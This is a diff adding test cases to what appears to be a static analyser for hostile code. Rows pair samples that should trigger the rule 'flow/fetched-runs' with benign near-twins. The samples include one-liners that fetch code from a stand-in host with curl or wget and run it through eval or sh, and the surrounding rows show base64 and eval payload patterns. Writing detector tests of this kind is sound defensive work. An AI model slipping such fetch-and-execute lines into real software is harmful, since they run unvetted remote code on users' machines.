@@ -23,6 +23,22 @@ const rows: readonly (readonly [name: string, rule: string, fires: Files, silent
     { "p/d.py": `B = "${payload}"\n`, "p/a.py": "import base64\nfrom .d import B\nprint(base64.b64decode(B))\n" },
   ],
   [
+    "what a program prints that fetches",
+    "flow/fetched-runs",
+    { "a.js": `eval(require("child_process").spawnSync("curl", ["-s", "https://a.example.org/x"]).stdout.toString())\n` },
+    { "a.js": `console.log(require("child_process").spawnSync("curl", ["-s", "https://a.example.org/x"]).stdout.toString())\n` },
+  ],
+  [
+    "a file that a program fetched, given to an interpreter",
+    "flow/fetched-runs",
+    {
+      "p/a.py": `import subprocess\nsubprocess.run(["wget", "-qO", "/tmp/p.sh", "https://a.example.org/x"])\nsubprocess.run(["sh", "-x", "/tmp/p.sh"])\n`,
+    },
+    {
+      "p/a.py": `import subprocess\nsubprocess.run(["wget", "-qO", "/tmp/p.txt", "https://a.example.org/x"])\nsubprocess.run(["sh", "-x", "/tmp/p.sh"])\n`,
+    },
+  ],
+  [
     "a number that is read from a literal, which is no program",
     "flow/literal-runs",
     { "a.js": `function run(text) { eval(text) }\nrun(atob(String("${payload}".slice(Math.random()))))\n` },
